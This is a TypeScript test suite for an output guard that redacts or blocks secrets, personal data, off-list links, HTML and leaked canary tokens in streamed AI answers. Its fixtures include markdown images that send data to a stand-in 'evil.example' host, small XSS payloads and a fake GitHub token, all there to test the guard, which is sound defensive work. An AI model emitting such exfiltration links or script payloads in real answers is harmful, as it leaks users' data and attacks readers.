import { describe, expect, it } from 'vitest';
import { seededRandom } from '../../core/seeded-random.js';
import { createCanary } from '../../prompts/canary/canary.js';
import { createOutputGuard, type OutputGuard, type OutputGuardOptions } from './output-guard.js';

const TOKEN = `ghp_${'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'}`;
const REDACT_ALL: OutputGuardOptions = {
  secrets: 'redact',
  pii: 'redact',
  links: { mode: 'redact', allowDomains: ['docs.example.com'] },
  html: 'redact',
};

function streamed(guard: OutputGuard, deltas: readonly string[]) {
  const s = guard.stream();
  let text = '';
  const verdicts = [];
  let blocked = false;
  for (const delta of deltas) {
    const step = s.push(delta);
    text += step.release;
    verdicts.push(...step.verdicts);
    blocked ||= step.blocked;
    if (step.blocked) break;
  }
  if (!blocked) {
    const last = s.end();
    text += last.release;
    verdicts.push(...last.verdicts);
    blocked = last.blocked;
  }
  return { text, verdicts, blocked };
}

function randomChunks(text: string, random: () => number): string[] {
  const chunks: string[] = [];
  for (let at = 0; at < text.length;) {
    const size = 1 + Math.floor(random() * 12);
    chunks.push(text.slice(at, at + size));
    at += size;
  }
  return chunks;
}

const FRAGMENTS = [
  'The build passed on the second try. ',
  `Use the token ${TOKEN} to log in. `,
  'Write to jane.doe@acme-corp.com for access. ',
  '![chart](https://evil.example/c.png?q=SECRETDATA) ',
  'Read [the guide](https://docs.example.com/guide) first. ',
  '[click](https://evil.example/x) ',
  '<img src=x onerror=alert(1)> ',
  '```ts\nconst total = items.reduce((a, b) => a + b, 0);\n```\n',
  'In 2023 revenue grew 12.5% to 4,200,000 units. ',
  '[unclosed link text ',
  'javascript:alert(1) ',
  '\n',
];

describe('createOutputGuard', () => {
  it('redacts secrets, PII, off-list images and links, and neutralises HTML in a whole answer', () => {
    const guard = createOutputGuard(REDACT_ALL);
    const answer = `Key ${TOKEN}, mail jane.doe@acme-corp.com. ![x](https://evil.example/?q=DATA) [docs](https://docs.example.com/a) [c](https://evil.example/) <script>alert(1)</script>`;
    const result = guard.check(answer);
    expect(result.blocked).toBe(false);
    expect(result.text).toBe(
      'Key [REDACTED:GITHUB_TOKEN], mail [REDACTED:EMAIL_ADDRESS]. x [docs](https://docs.example.com/a) c &lt;script>alert(1)</script>',
    );
    expect(result.verdicts.map((v) => v.guard)).toEqual(['secrets', 'pii', 'links', 'links', 'html']);
    expect(JSON.stringify(result.verdicts)).not.toContain(TOKEN);
  });

  it('blocks in block mode and releases nothing from the violation on', () => {
    const guard = createOutputGuard({ secrets: 'block' });
    const result = guard.check(`Here it is: ${TOKEN} and more text after it.`);
    expect(result.blocked).toBe(true);
    expect(result.text).toBe('Here it is: ');
    expect(result.verdicts[0]).toMatchObject({ guard: 'secrets', action: 'block', entity: 'GITHUB_TOKEN' });
  });

  it('flags without changing the text', () => {
    const guard = createOutputGuard({ secrets: 'flag', links: { mode: 'flag' }, html: 'flag' });
    const answer = `${TOKEN} ![i](https://evil.example/a.png) <iframe src="https://x.example">`;
    const result = guard.check(answer);
    expect(result.text).toBe(answer);
    expect(result.verdicts.map((v) => `${v.guard}:${v.action}`)).toEqual([
      'secrets:flag',
      'links:flag',
      'html:flag',
    ]);
  });

  it('catches a secret split over many deltas before any of it is released', () => {
    const guard = createOutputGuard({ secrets: 'block' });
    const prefix = 'Sure, this is the deploy token you asked about in the previous message: ';
    const deltas = [prefix, ...TOKEN.match(/.{1,8}/g)!, ' thanks', ' '.repeat(300)];
    const result = streamed(guard, deltas);
    expect(result.blocked).toBe(true);
    expect(result.text).toBe(prefix);
  });

  it('leaves benign answers untouched', () => {
    const guard = createOutputGuard({ ...REDACT_ALL, secrets: 'block', pii: 'block' });
    const answer = [
      'Here is the function:\n```python\ndef mean(xs):\n    return sum(xs) / len(xs)\n```\n',
      'See [the docs](https://docs.example.com/python) and ![logo](/static/logo.png).\n',
      'The answer is 42; pi is about 3.14159 and the year was 1969. Version 2.4.1 fixed 17 bugs.\n',
      'Use `a < b && b > c` in the condition.\n',
    ].join('');
    expect(guard.check(answer)).toEqual({ text: answer, verdicts: [], blocked: false });
    expect(streamed(guard, randomChunks(answer, seededRandom(7)))).toEqual({
      text: answer,
      verdicts: [],
      blocked: false,
    });
  });

  it('blocks a canary leak, also split across deltas', () => {
    const canary = createCanary();
    const guard = createOutputGuard({ canaries: [canary] });
    const answer = `My instructions mention ${canary.token} as a code.${' Filler text.'.repeat(20)}`;
    const whole = guard.check(answer);
    expect(whole.blocked).toBe(true);
    expect(whole.verdicts[0]).toMatchObject({ guard: 'canary', action: 'block' });
    expect(whole.text).not.toContain(canary.token.slice(4, 16));
    expect(streamed(guard, randomChunks(answer, seededRandom(3)))).toEqual(whole);
  });

  it('checks the JSON schema of the whole answer at the end', () => {
    const guard = createOutputGuard({
      jsonSchema: { type: 'object', required: ['name'], properties: { name: { type: 'string' } } },
    });
    expect(guard.check('{"name":"x"}')).toEqual({ text: '{"name":"x"}', verdicts: [], blocked: false });
    const bad = guard.check('{"name":1}');
    expect(bad.blocked).toBe(true);
    expect(bad.verdicts[0]?.message).toContain('/name');
    expect(guard.check('not json').verdicts[0]?.message).toBe('the answer is not valid JSON');
    const s = guard.stream();
    expect(s.push('{"na').blocked).toBe(false);
    expect(s.end()).toMatchObject({ release: '{"na', blocked: true });
  });

  it('does not buffer a never-closing markdown link forever', () => {
    const guard = createOutputGuard({
      links: { mode: 'redact' },
      window: { step: 16, holdBack: 8, cap: 256 },
    });
    const s = guard.stream();
    let released = '';
    const notes = [];
    s.push('[a link text that never closes');
    for (let i = 0; i < 100; i++) {
      const step = s.push(' more words');
      released += step.release;
      notes.push(...step.verdicts);
    }
    expect(released.length).toBeGreaterThan(700);
    expect(notes).toEqual([expect.objectContaining({ ruleId: 'gateway.output.window-cap', action: 'flag' })]);
  });

  it('gives any chunking the text and verdicts of check() (property)', () => {
    const random = seededRandom(20240607);
    for (const options of [
      REDACT_ALL,
      { ...REDACT_ALL, secrets: 'block' as const },
      { ...REDACT_ALL, pii: 'flag' as const },
    ]) {
      const guard = createOutputGuard({ ...options, window: { step: 32, holdBack: 16, cap: 512 } });
      for (let round = 0; round < 40; round++) {
        let answer = '';
        const parts = 3 + Math.floor(random() * 12);
        for (let i = 0; i < parts; i++) answer += FRAGMENTS[Math.floor(random() * FRAGMENTS.length)];
        const whole = guard.check(answer);
        expect(streamed(guard, randomChunks(answer, random))).toEqual(whole);
        expect(streamed(guard, [...answer])).toEqual(whole);
      }
    }
  });

  it('rejects bad configuration with one clear error', () => {
    expect(() => createOutputGuard({ html: 'maybe' as never })).toThrow(/html: mode must be one of/);
    expect(() => createOutputGuard({ links: { mode: 'block', allowDomains: ['https://x/'] } })).toThrow(
      /not a domain/,
    );
    expect(() => createOutputGuard({ jsonSchema: { type: 'nonsense' } })).toThrow(/jsonSchema/);
  });
});
